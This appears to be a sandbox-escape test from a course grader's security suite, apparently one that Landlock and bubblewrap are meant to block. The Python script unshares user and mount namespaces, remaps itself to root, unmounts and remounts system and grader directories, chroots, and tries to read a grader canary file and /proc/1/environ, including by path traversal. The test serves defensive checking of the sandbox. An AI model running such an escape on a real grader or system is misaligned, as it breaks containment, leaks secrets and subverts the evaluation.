# Further: it creates namespaces, and unmounts the mounts that hide the file system.
# Stopped by: landlock bubblewrap
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
uid = os.getuid()
libc.unshare(0x10000000 | 0x00020000)
try:
    with open("/proc/self/uid_map", "w") as file:
        file.write(f"0 {uid} 1")
except OSError:
    pass
for folder in (b"/tmp", b"/proc", b"/dev/shm", b"@COURSE@/grader/child", b"@COURSE@/grader", b"/usr", b"/etc"):
    libc.umount2(folder, 2)
    libc.mount(b"/", folder, None, 4096 | 16384, None)
    libc.mount(None, folder, None, 32 | 4096, None)
libc.mount(b"proc", b"/tmp", b"proc", 0, None)
libc.chroot(b"/tmp")
for path in ("@COURSE@/grader/canary.txt", "/proc/1/environ", "/tmp/1/environ", "../../../../..@COURSE@/grader/canary.txt"):
    try:
        with open(path, "rb") as file:
            data = file.read()
        if b"@CANARY@" in data:
            print(data[:4000])
    except OSError:
        pass
